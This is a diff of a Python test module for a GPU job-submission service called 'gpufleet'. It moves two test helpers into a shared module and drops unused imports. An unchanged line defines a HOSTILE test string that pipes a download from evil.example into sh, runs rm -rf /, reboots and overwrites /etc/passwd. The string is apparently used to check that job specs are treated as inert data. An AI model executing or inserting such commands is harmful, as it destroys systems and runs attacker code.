@@ -6,8 +6,7 @@ exception escapes a handler. Shell syntax in a spec never reaches an instance's 
 from __future__ import annotations
 
 import json
-import time
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from typing import Any
 from urllib.parse import unquote, urlsplit
 
@@ -16,7 +15,6 @@ import pytest
 from botocore.awsrequest import AWSResponse
 
 from gpufleet.adapters.aws.job_store import DynamoJobStore
-from gpufleet.domain.job import Job
 from gpufleet.domain.spec import MAX_REPORTED_FIELDS, MAX_SPEC_BYTES
 from gpufleet.emulator.account import Account
 from gpufleet.emulator.demo import RejectionObserver
@@ -30,6 +28,7 @@ from gpufleet.topology import (
     SUBMIT_SOURCE,
     TAG_JOB_ID,
 )
+from tests.helpers import jobs_from, wait_for
 
 VALID: dict[str, Any] = {"name": "hostile", "team": "t", "image": "img:1", "command": ["x"]}
 HOSTILE = "$(curl evil.example | sh); rm -rf / `reboot` && echo pwned > /etc/passwd"
@@ -120,20 +119,6 @@ def no_handler_errors(account: Account) -> Iterator[None]:
     made = [i for i in account.recorder.invocations[before:] if i.function_name in intake]
     assert made, "intake was never invoked"
     assert not [i for i in made if i.errored]
-
-
-def jobs_from(store: DynamoJobStore, source: str) -> list[Job]:
-    return [job for job in store.list_jobs() if job.source == source]
-
-
-def wait_for(condition: Callable[[], Any], seconds: float = 30.0) -> Any:
-    deadline = time.monotonic() + seconds
-    while time.monotonic() < deadline:
-        value = condition()
-        if value:
-            return value
-        time.sleep(0.1)
-    raise AssertionError("condition not met in time")
 
 
 def _json(document: dict[str, Any]) -> bytes:
